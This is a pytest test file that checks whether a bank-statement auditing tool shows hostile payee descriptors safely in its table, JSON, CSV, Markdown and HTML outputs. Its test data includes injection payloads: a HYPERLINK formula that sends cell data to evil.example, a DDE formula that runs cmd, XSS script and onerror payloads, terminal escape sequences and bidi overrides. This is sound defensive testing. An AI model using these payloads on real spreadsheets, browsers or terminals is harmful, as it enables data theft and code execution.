"""Hostile descriptors end to end: a statement whose payee texts are formulas, Rich markup,
terminal escapes, HTML, Markdown, bidi overrides and very long text, through `scan` in every
--format and `report` in md and html. Each output must show them as inert text.
"""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path

import pytest

from auditor.render.safety import _INVISIBLE as INVISIBLE
from auditor.render.safety import printable
from auditor.report.html import h
from auditor.report.markdown import md_escape
from tests.conftest import Run

Cli = Callable[..., Run]
HEADER = '"日付","摘要","摘要内容","支払い金額","預かり金額","差引残高","メモ","未資金化区分","入払区分"'
W = "ﾄﾞｺﾓｺｳｻﾞ"  # every descriptor names ドコモ口座, so every row is a finding
HOSTILE = [
    # spreadsheet formulas, half- and full-width, after spaces, after a tab or line break
    f'=HYPERLINK("http://evil.example/?"&A1,"{W}")', f"+{W}", f"-{W}", f"@SUM(A1) {W}",
    f"＝ＣＭＤ {W}", f"＋{W}", f"－{W}", f"＠{W}", f"  ={W}", f"\u3000=1+{W}",
    f"\t={W}", f"\r\n=1+{W}", f"{W}\r\n=cmd|' /C calc'!A0",
    # Rich markup and emoji codes
    f"[bold red]{W}[/bold red]", f"[link=http://evil.example]{W}[/link]", f"{W} [/] :warning:",
    # terminal escapes: clear screen, OSC 8 hyperlink, C1 CSI, bell, backspace
    f"{W}\x1b[2J\x1b[31mRED", f"{W}\x1b]8;;http://evil.example\x07click\x1b]8;;\x07",
    f"{W}\x9b31m\x07\x08", f"{W}\x7f",
    # HTML
    f"{W}<script>alert(1)</script>", f"{W}<img src=x onerror=alert(1)>",
    f'{W}" onmouseover="alert(1)', f"{W}&amp;&lt;]]>--><!--",
    # Markdown
    f"{W} | col | [a](http://evil.example) ![i](http://evil.example/i.png) **b** `c` ~~d~~",
    f"# {W}", f"1. {W}", f"> {W}", f"---{W}", f"<http://evil.example>{W}", f"{W}\\",
    # bidi overrides and isolates, invisible marks, line separators
    f"{W}\u202eRTL\u202c", f"{W}\u2066iso\u2069\u200f\u200e\u200b", f"{W}\u2028\u2029",
    # invisible: zero width space, ZWNJ, ZWJ, word joiner, BOM, soft hyphen, LRM, RLO,
    # variation selector 1, Mongolian vowel separator, Hangul filler; and before a formula
    f"{W}\u200bA", f"{W}\u200cB", f"{W}\u200dC", f"{W}\u2060D", f"{W}\ufeffE", f"{W}\u00adF",
    f"{W}\u200eG", f"{W}\u202eH", f"{W}\ufe00I", f"{W}\u180eJ", f"{W}\u3164K",
    f"\u00a0=1+{W}", f"\u200b=1+{W}", f"\ufeff@SUM(1) {W}", f"\u2060\u00a0-{W}", f"\u3164+{W}",
    # very long
    W + "長" * 3000,
]
# Bidi controls and line separators: never raw in any output meant for people or JSON.
BIDI = set("\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u2028\u2029")
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
ALLOWED_TAGS = {"html", "head", "meta", "title", "style", "body", "h1", "h2", "section", "p",
                "table", "thead", "tbody", "tfoot", "tr", "th", "td", "br", "ol", "ul", "li",
                "span", "figure", "figcaption", "svg", "g", "line", "circle", "text", "rect",
                "path", "polyline"}


@pytest.fixture
def statement(tmp_path: Path) -> Path:
    lines = [HEADER, '"2020/7/1","振込１","キユウヨ","","9000000","","","",""']
    for day, text in enumerate(HOSTILE):
        quoted = text.replace('"', '""')
        lines.append(f'"2020/8/{day % 28 + 1}","口座振替","{quoted}","{1000 + day}",'
                     '"","","","",""')
    # The file name is untrusted too: it is printed in JSON, CSV, messages and the draft.
    path = tmp_path / "[bold]x[red] <i>y&amp; =z.csv"
    path.write_bytes(("\r\n".join(lines) + "\r\n").encode("utf-8"))
    return path


def raw_controls(text: str, allowed: str = "\n") -> set[str]:
    """C0/C1 controls and DEL (bar the allowed ones), bidi controls and every invisible
    (format or default-ignorable) character present raw."""
    return {c for c in text if (unicodedata.category(c) == "Cc" and c not in allowed)
            or c in BIDI or unicodedata.category(c) == "Cf" or INVISIBLE.match(c)}


def scan(cli: Cli, path: Path, fmt: str) -> Run:
    run = cli("scan", path, "--format", fmt, "--lang", "en")
    assert run.code == 1, run.err
    assert not raw_controls(run.err)
    return run


def test_every_hostile_row_is_a_finding(cli: Cli, statement: Path) -> None:
    data = json.loads(scan(cli, statement, "json").out)
    # Exactly as printed (findings come in time order, not in the file's order).
    assert sorted(f["description"] for f in data["findings"]) == sorted(HOSTILE)


def test_table_shows_hostile_text_literally(cli: Cli, statement: Path,
                                            monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "400")  # wide enough that short descriptors are not wrapped
    out = scan(cli, statement, "table").out
    assert not raw_controls(out)
    assert not {c for c in out if unicodedata.category(c) == "Cf"}  # no invisible marks either
    for text in HOSTILE:
        shown = printable(text)
        if len(shown) < 120:
            assert shown in out, shown
    assert "[bold red]ﾄﾞｺﾓｺｳｻﾞ[/bold red]" in out  # markup shown, not applied
    assert "\\u001b[2J\\u001b[31mRED" in out and "\\u202eRTL\\u202c" in out
    assert ":warning:" in out  # no emoji substitution
    assert ("ﾄﾞｺﾓｺｳｻﾞ" + "長" * 20) in out  # the long one is there, wrapped


def test_json_keeps_hostile_text_exact_and_escaped(cli: Cli, statement: Path) -> None:
    out = scan(cli, statement, "json").out
    assert not raw_controls(out)
    data = json.loads(out)
    assert sorted(f["description"] for f in data["findings"]) == sorted(HOSTILE)
    assert data["files"][0]["path"] == str(statement)


def test_csv_cells_never_start_a_formula_and_keep_the_text(cli: Cli, statement: Path) -> None:
    """A cell starting with NBSP, ZWSP or a BOM before = got no ' prefix; a raw ESC was kept.
    CSV now shows control and invisible characters as \\uXXXX, as the table does."""
    out = scan(cli, statement, "csv").out
    assert not raw_controls(out, allowed="\r\n")
    header, *rows = list(csv.reader(io.StringIO(out, newline="")))
    assert len(rows) == len(HOSTILE)
    records = [dict(zip(header, row, strict=True)) for row in rows]
    for record in records:
        for column, cell in record.items():
            if column in ("line", "amount", "score"):
                assert re.fullmatch(r"\d+", cell)
            else:
                assert not cell.lstrip().startswith(TRIGGERS), (column, cell)
    shown = [printable(t) for t in HOSTILE]
    expected = ["'" + t if t.lstrip().startswith(TRIGGERS) else t for t in shown]
    assert sorted(r["description"] for r in records) == sorted(expected)  # only the ' added
    for hidden in ("\u00a0=1+", "\\u200b=1+", "\\ufeff@SUM", "\\u2060\u00a0-", "\\u3164+"):
        (cell,) = [r["description"] for r in records if hidden in r["description"]]
        assert cell.startswith("'") or cell.startswith("\\"), cell


def test_markdown_draft_escapes_every_hostile_descriptor(cli: Cli, statement: Path) -> None:
    run = cli("report", statement, "--lang", "en")
    assert run.code == 0, run.err
    text = run.out
    assert not raw_controls(text)
    rows = _claim_rows(text)
    assert len(rows) == len(HOSTILE) and {len(row) for row in rows} == {7}
    assert sorted(row[3] for row in rows) == sorted(md_escape(t).strip() for t in HOSTILE)
    for row in rows:
        # What is left once every backslash escape is removed has no Markdown or HTML sign.
        bare = re.sub(r"\\.", "", row[3])
        assert not set("|<>[]()`*_#\\~") & set(bare), row[3]
        assert not re.match(r"\s*(?:[-+=>]|\d+[.)])", row[3])  # no list, quote or rule


def _claim_rows(markdown: str) -> list[list[str]]:
    """Rows of the claims table, split on pipes that no backslash escapes."""
    rows = []
    for line in markdown.splitlines():
        if not re.match(r"\| \d+ \|", line):
            continue
        cells, cell, escaped = [], "", False
        for char in line:
            if char == "|" and not escaped:
                cells.append(cell.strip())
                cell = ""
            else:
                cell += char
            escaped = char == "\\" and not escaped
        rows.append(cells[1:])
    return rows


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def test_html_draft_has_no_tag_or_attribute_from_data(cli: Cli, statement: Path) -> None:
    run = cli("report", statement, "--format", "html", "--lang", "en")
    assert run.code == 0, run.err
    page = run.out
    assert not raw_controls(page)
    parser = _Tags()
    parser.feed(page)
    parser.close()
    tags = {tag for tag, _ in parser.tags}
    assert tags <= ALLOWED_TAGS, tags - ALLOWED_TAGS
    for tag, attrs in parser.tags:
        for name, value in attrs:
            assert not name.startswith("on") and name not in ("href", "src", "xlink:href")
            assert "evil" not in (value or "")
    text = "".join(parser.text)
    for hostile in HOSTILE:
        assert h(hostile) in page  # escaped as a whole, in its cell
        assert printable(hostile) in text  # and reads back as the literal text
